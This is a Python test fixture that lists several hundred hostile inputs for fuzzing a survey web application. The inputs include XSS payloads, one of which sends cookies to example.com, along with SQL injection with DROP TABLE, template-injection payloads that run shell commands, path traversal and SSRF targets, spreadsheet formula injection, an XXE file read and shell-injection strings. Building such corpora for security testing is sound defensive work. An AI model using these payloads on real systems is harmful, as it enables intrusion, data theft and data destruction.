"""A corpus of hostile values, each a (name, value) pair; a value is text, or bytes where it is not valid
UTF-8. What each family aims at: script and event-handler injection (stored XSS, LimeSurvey's most common
hole), SQL injection, server-side template injection, path traversal, formula injection into exports,
numbers a careless parser accepts, control and invisible characters, look-alike Unicode, invalid UTF-8,
oversize values. Request shapes (content types, CSRF, duplicate and missing fields) are built by the
tests from these values."""

XSS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=http://example.com/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>klik</a>", "<a href=\"jav&#x09;ascript:alert(1)\">klik</a>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>",
    "<img src=\"http://example.com/pixel.gif\">", "<link rel=stylesheet href=http://example.com/x.css>",
    "<style>@import 'http://example.com/x.css';</style>", "<div style=\"background:url(http://example.com/x)\">",
    "<meta http-equiv=refresh content='0;url=http://example.com/'>", "<base href=http://example.com/>",
    "<form action=http://example.com/><button>verstuur</button></form>", "<object data=http://example.com/x.swf>",
    "<embed src=http://example.com/x.swf>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1) type=image>",
    "javascript:alert(document.cookie)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "'-alert(1)-'", "\";alert(1);//",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>klik</x>", "<img src=x onerror=fetch('http://example.com/'+document.cookie)>",
]
SQL = [
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE response;--", "1; DROP TABLE answer",
    "' UNION SELECT email, password_hash FROM account--", "1' AND SLEEP(5)--", "1' AND pg_sleep(5)--",
    "'; SELECT pg_sleep(5);--", "1) OR (1=1", "admin'--", "' OR 'x'='x'/*", "%27%20OR%201%3D1--",
    "'||(SELECT version())||'", "1 AND 1=CAST((SELECT version()) AS int)", "'; ATTACH DATABASE '/tmp/x.db' AS x;--",
    "' AND 1=(SELECT COUNT(*) FROM sqlite_master)--", "1' ORDER BY 99--", "' GROUP BY 1 HAVING 1=1--",
    "\\'; DROP TABLE account; --", "'; COPY account TO '/tmp/x';--", "$$; DROP TABLE response; $$",
    "E'\\x27 OR 1=1'", "1'; WAITFOR DELAY '0:0:5'--", "' OR ''='", "%", "_", "%%%", "\\", "'",
]
TEMPLATE = [
    "{{7*7}}", "{{ 7 * 7 }}", "{% raw %}{{7*7}}{% endraw %}", "{%print(7*7)%}", "{% for x in range(9) %}x{% endfor %}",
    "{{config}}", "{{config.SECRET_KEY}}", "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__ }}", "{# commentaar #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "{{=7*7}}", "[[7*7]]", "%(max)d", "%s%s%s%n", "{0}", "{}",
    "{__class__}", "{{_('x')}}", "{{ url_for('static', filename='style.css') }}",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "/proc/self/environ", "file:///etc/passwd",
    "instance/config.py", "../instance/config.py", "C:\\boot.ini", "\\\\server\\share\\x", "/dev/zero",
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:5432/", "//example.com/", "/\\example.com",
    "https://example.com/", "javascript://%0aalert(1)",
]
FORMULA = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://example.com/\",\"klik\")",
    "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://example.com/\",\"//a\")", "+31 6 12345678", "-", "@", "=",
    "=WEBSERVICE(\"http://example.com/\")", "'=1+1",
]
NUMBERS = [
    "7.0", "1e1", "-1", "11", "0", " 8 ", "08", "+8", "0x8", "8.", ".8", "8,0", "10.0", "NaN", "Infinity", "-0",
    "1_0", "9" * 400, "1e309", "８", "٨", "8\u200b", "\u200b8", "8 ", "\t8", "Ⅷ", "²", "8\n", "999999999999999999999",
]
CONTROL = ([f"tekst{chr(code)}tekst" for code in range(0x00, 0x20) if chr(code) not in "\t\n\r"]
           + ["tekst\x7ftekst", "tekst\x85tekst", "tekst\u2028tekst", "tekst\u2029tekst", "\x00", "\x00" * 10,
              "x\r\nSet-Cookie: sessie=overgenomen", "x\r\n\r\n<html>", "\r\n\r\n"])
UNICODE = [
    "jа", "ｊａ", "JA", "Ja", "ja\u0301", "nееn", "nvt\u200d", "weet\u2011niet", "\u202egnipaolnwod", "\u202eexe.txt",
    "Ünïcödé tëkst", "😀" * 10, "👩‍👩‍👧‍👦", "\ufeffja", "\ufffd", "𝕛𝕒", "ℌ𝔢𝔩𝔭", "\u0000ja", "ǰa", "İstanbul ıi",
    "Z̸̢͉̝a̵̻͓l̷̞͕g̶̙̍o̶͎̿", "\u061c\u200e\u200f", "日本語のテキスト", "مرحبا", "\U0010ffff",
]
INVALID_UTF8 = [
    b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xe2\x82", b"\xed\xa0\x80",
    b"\xf0\x28\x8c\xbc", b"\xf8\xa1\xa1\xa1\xa1", b"\xc0\xaf", b"\xc0\x80", b"tekst\x80tekst",
]
OVERSIZE = ["a" * 2000, "a" * 2001, "é" * 2000, "😀" * 2000, "a\r\n" * 1000, "a" * 100_000, "a" * (1024 * 1024)]
MISC = [
    "", " ", "\n", "\t", "null", "None", "undefined", "true", "false", "[]", "{}", "{\"$gt\": \"\"}", "a@b.nl",
    "<svg/onload=alert(1)>@x.nl", "\"<script>\"@example.nl", "manager@example.nl\r\nBcc: x@example.com",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "() { :; }; echo kwetsbaar", "$(id)", "`id`", "| id", "; ls -la", "*", "?", "#", "&", "=", "+", "%00",
    "client", "2026-H1", "2026-H3", "2026-Q5", "2026-13-01", "2026-02-30", "0000-00-00", "9999-12-31",
    "beheerder", "lezer", "manager", "BEHEERDER", "0", "1", "weet_niet", "nvt", "ja",
]

PAYLOADS: list[tuple[str, str | bytes]] = [
    (f"{family}-{number}", value)
    for family, values in (("xss", XSS), ("sql", SQL), ("template", TEMPLATE), ("traversal", TRAVERSAL),
                           ("formula", FORMULA), ("number", NUMBERS), ("control", CONTROL), ("unicode", UNICODE),
                           ("invalid-utf8", INVALID_UTF8), ("oversize", OVERSIZE), ("misc", MISC))
    for number, value in enumerate(values)
]
assert len(PAYLOADS) >= 200, len(PAYLOADS)
